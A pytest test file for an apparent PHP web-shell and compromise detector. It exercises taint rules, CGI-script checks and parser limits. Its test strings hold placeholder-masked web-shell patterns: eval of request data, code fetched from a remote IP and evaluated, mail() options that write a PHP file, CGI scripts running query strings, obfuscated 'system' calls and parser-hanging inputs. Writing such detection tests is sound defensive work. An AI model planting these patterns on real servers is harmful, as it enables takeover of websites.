"""What the syntax tree shows of PHP. Words that run something stand in the tests as placeholders, put in in memory."""

from __future__ import annotations

import time

import pytest

from auditor.compromise import classifier, confidence, scripts
from auditor.compromise.php import nodes, taint
from auditor.compromise.rules import engine
from benchmarks import footholds

RULES = engine.load_yara_rules()


def hits(template: str) -> dict[str, str]:
    found = taint.find_suspicious_php_code(footholds.whole(f"<?php {template}").encode("latin-1"))
    return {hit.rule: hit.level for hit in reversed(found)}


def test_nearly_every_foothold_is_an_alarm_and_none_is_missed() -> None:
    found = {
        path: confidence.weigh_judgement(classifier.judge_content(content, path, RULES))
        for path, content in footholds.all_of_them()
    }
    alarms = {path for path, one in found.items() if one is not None and one.certainty in ("exact", "strong")}
    first = {path for path in found if path.split("/")[0] in footholds.FAMILIES}
    assert len(first) >= 120 and len(found) >= 400
    assert len(alarms & first) / len(first) >= 0.97
    assert len(alarms) / len(found) >= 0.9
    assert {path for path, one in found.items() if one is None and path in first} == set()
    assert sum(1 for one in found.values() if one is None) / len(found) <= 0.01


@pytest.mark.parametrize(
    "template, rule, level",
    [
        ("$a = §POST§['x']; $b = base64_decode($a); @§E§($b);", "evaluated", "exact"),
        ("function r($x) { §E§($x); } r(§POST§['c']);", "evaluated", "exact"),
        ("if (0) { §R§(); preg_filter(); } §E§(§POST§['a']);", "evaluated", "exact"),
        ("§U§(§GET§['a'], §GET§['b']);", "chosen_call", "exact"),
        ("call_user_func(array(§GET§['c'] . 'Helper', 'getAssociations'));", "chosen_call", "hint"),
        ("call_user_func(array(§GET§['c'], §GET§['m']));", "chosen_call", "sure"),
        ("call_user_func(array(§GET§['c'], 'run'), §GET§['m']);", "chosen_call", "exact"),
        ("§I§ §GET§['p'];", "chosen_include", "exact"),
        ("§I§ 'pages/' . §GET§['p'] . '.php';", "chosen_include", "hint"),
        ("$x = §GET§['p']; if (in_array($x, ['a', 'b'])) { §I§ $x; }", "chosen_include", "hint"),
        ("switch (§GET§['p']) { case 'a': §I§ §GET§['p']; }", "chosen_include", "hint"),
        ("§S§('ls ' . §GET§['a']);", "command", "hint"),
        ("§E§(file_get_contents('http://203.0.113.9/x'));", "evaluated", "sure"),
        ("§W§('x.php', §POST§['c']);", "written_program", "exact"),
        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);", "uploaded_as_named", "sure"),
        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name'] . '.dat');", "uploaded_as_named", "hint"),
        (
            "if (in_array(pathinfo(§FILES§['a']['name'])['extension'], $ok))"
            " §M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);",
            "uploaded_as_named",
            "hint",
        ),
    ],
)
def test_how_sure_it_is_depends_on_who_has_the_say(template: str, rule: str, level: str) -> None:
    assert hits(template).get(rule) == level


@pytest.mark.parametrize(
    "template, rule, level",
    [
        (
            "class J { function run($j) { return §H§($j); } } array_map([new J, 'run'], §POST§['j']);",
            "command",
            "exact",
        ),
        (
            "class J { static function run($j) { return §H§($j); } } array_map('J::run', §POST§['j']);",
            "command",
            "exact",
        ),
        ("$f = §S§(...); $f(§GET§['c']);", "called_by_name", "exact"),
        ("$f = match (true) { default => '§S§' }; $f(§GET§['c']);", "called_by_name", "exact"),
        ("function lines() { yield §POST§['b']; } foreach (lines() as $l) { §E§($l); }", "evaluated", "exact"),
        ("preg_replace_callback_array(['/.+/' => '§S§'], §GET§['c']);", "called_by_name", "exact"),
        ("add_shortcode('x', function ($a) { §E§($a['x']); });", "runs_what_it_is_given", "sure"),
        ("add_action('x', 'now'); function now($a) { §E§($a); }", "runs_what_it_is_given", "sure"),
        ("$m->each(function ($a) { §X§($a); });", "runs_what_it_is_given", "hint"),
        ("$c = $request->input('c'); §E§($c);", "evaluated", "exact"),
        ("$c = JFactory::getApplication()->input->get('c'); §E§($c);", "evaluated", "exact"),
        ("$f = pathinfo('/a/x.php', PATHINFO_FILENAME) . 'y'; $f(§GET§['c']);", "unknown_call", "sure"),
        ("$map = ['l' => 'trim', 'x' => '§H§']; $map[$k](§GET§['v']);", "called_by_name", "exact"),
        ("stream_wrapper_register('cfg', 'V'); §I§ 'cfg://main';", "included_from_elsewhere", "sure"),
        ("function r($php) { return §I§('data://text/plain,' . urlencode($php)); }", "included_from_elsewhere", "hint"),
        ("foreach (glob('img/*.webp') as $f) { §I§ $f; }", "included_data", "sure"),
        ("§E§('?>' . substr(file_get_contents('a.jpg'), 9));", "decoded_program", "sure"),
        ("mail('a@b.example', 's', $m, '', '-OQueueDirectory=/tmp -X/var/www/w.php');", "mail_options", "sure"),
        ("mail('a@b.example', 's', $m, '', '-fa@b.example');", "mail_options", None),
        ("update_option('k', §POST§['o']); §E§(get_option('k'));", "evaluated", "exact"),
        ("§E§(c¦url_exec($c));", "evaluated", "sure"),
        (
            "define('ABSPATH', dirname(__DIR__) . '/'); $h = fopen(ABSPATH . 'config.php', 'w');"
            " foreach (explode('#', c¦url_exec($c)) as $line) { fwrite($h, $line); }",
            "written_program",
            None,
        ),
        ("$s = stream_socket_accept($l); echo §H§(fgets($s));", "command", "sure"),
        ("update_option('k', §POST§['o']); §E§(get_option('other'));", "evaluated", None),
        ("$t = 'home'; extract(§GET§); §E§($t);", "evaluated", "exact"),
        (
            "try { throw new Exception(§POST§['m']); } catch (Exception $e) { §E§($e->getMessage()); }",
            "evaluated",
            "exact",
        ),
    ],
)
def test_what_visitors_say_is_followed_through_what_hands_it_on(template: str, rule: str, level: str | None) -> None:
    assert hits(template).get(rule) == level


@pytest.mark.parametrize(
    "script, level",
    [
        ("#!/usr/bin/perl\nmy $c = param('c');\nprint `$c`;\n", "exact"),
        ('#!/usr/bin/perl\nopen(P, "$ENV{QUERY_STRING} |");\n', "exact"),
        ("#!/usr/bin/python3\nq = parse_qs(os.environ['QUERY_STRING'])\nos.§S§(q['c'][0])\n", "exact"),
        ("#!/bin/sh\nc=$HTTP_X_C\n$c 2>&1\n", "exact"),
        ('#!/bin/sh\necho Content-type: text/plain\nread b\nsh -c "$b"\n', "sure"),
        ('#!/bin/sh\nread b\nsh -c "$b"\n', None),
        ("#!/bin/sh\nread b\n$EDITOR $b\n", None),
        ("#!/usr/bin/python3\nos.§S§('ls ' + os.environ['HOME'])\n", None),
        ('#!/bin/sh\n# eval $QUERY_STRING\necho "$QUERY_STRING"\n', None),
        ("no script: eval $QUERY_STRING\n", None),
    ],
)
def test_scripts_that_run_what_visitors_say_are_told_from_those_that_ask_at_a_terminal(
    script: str, level: str | None
) -> None:
    found = scripts.find_hits_in_shebang_script(footholds.whole(script).encode())
    assert [hit.level for hit in found] == ([level] if level else [])


def test_a_script_that_is_made_to_hurt_costs_no_time() -> None:
    began = time.process_time()
    scripts.find_hits_in_shebang_script(b"#!/usr/bin/perl\n" + b" (" * 100_000)
    scripts.find_hits_in_shebang_script(b"#!/bin/sh\n" + b"read -a a " * 20_000)
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "template",
    [
        "$x = intval(§GET§['a']); §I§ 'p' . $x . '.php';",
        "$o = (int) §GET§['a']; $f = 'page_' . $o; echo strlen(§POST§['x']);",
        "§S§('ls ' . escapeshellarg(§GET§['a']));",
        "$c = ['a' => 'f']; if (isset(§GET§['x'])) { $c['b'] = §GET§['x']; } §U§($c['a'], 1);",
        "§I§ __DIR__ . '/a.php'; §E§('return 1;');",
        "$view = 'list'; §I§ $view . '.php'; echo htmlspecialchars(§GET§['q']);",
        "usort($rows, function ($a, $b) { return $a <=> §GET§['order']; });",
    ],
)
def test_what_applications_do_every_day_is_no_sign(template: str) -> None:
    assert set(hits(template).values()) <= {"hint"}


def test_constants_are_worked_out_however_they_are_hidden() -> None:
    for hidden in (
        "strrev«'metsys')",
        "'sys' · 'tem'",
        "«'!'^'@') · 'ss' · 'ert'",
        "implode«'', ['s', 'y', 'stem'])",
        "base64_decode«'c3lzdGVt')",
        "strtr«'abcfde', ['a' => 's', 'b' => 'y', 'c' => 's', 'f' => 't', 'd' => 'e', 'e' => 'm'])",
    ):
        found = hits(f"$f = {hidden}; $f«§GET§['c']);")
        assert found, hidden


@pytest.mark.parametrize(
    "hostile",
    [
        b"<?php " + b"(" * 20_000 + b"1" + b")" * 20_000 + b";",
        b"<?php " + b"[" * 20_000,
        b"<?php $a = " + b"'x' . " * 20_000 + b"'y';",
        b"<?php " + b"if(1){" * 10_000,
        b"<?php $x = " + b"!" * 50_000 + b"1;",
        b"<?php " + b"function f(){" * 5_000,
        b"<?php " + bytes(range(256)) * 200,
        b"<?php " + b"function f(){" * 2_000 + b"$a($b);" + b"}" * 2_000,
        b"<?php for(;;){ " + b"if(1){$a.=$b;" * 1_500 + b"}" * 1_501,
        b"<?php $x = " + b"[" * 8_000 + b"$y" + b"]" * 8_000 + b";",
        b"<?php function f(){ " + b"$a[" * 10_000,
        b"/*" * 40_000 + b"<?php " + b"/***/" * 2_000,
    ],
    ids=[
        *("parentheses", "brackets", "concatenation", "blocks", "signs", "functions", "bytes"),
        *("functions that matter", "appended", "arrays", "open brackets", "comments"),
    ],
)
def test_code_that_is_made_to_hurt_costs_little(hostile: bytes) -> None:
    began = time.process_time()
    assert isinstance(taint.find_suspicious_php_code(hostile), tuple)
    assert time.process_time() - began < 2


def test_more_than_a_megabyte_is_not_read_as_a_tree() -> None:
    with pytest.raises(nodes.TooLarge):
        nodes.parse_php_nodes(b"<?php " + b" " * nodes.MAX_BYTES)
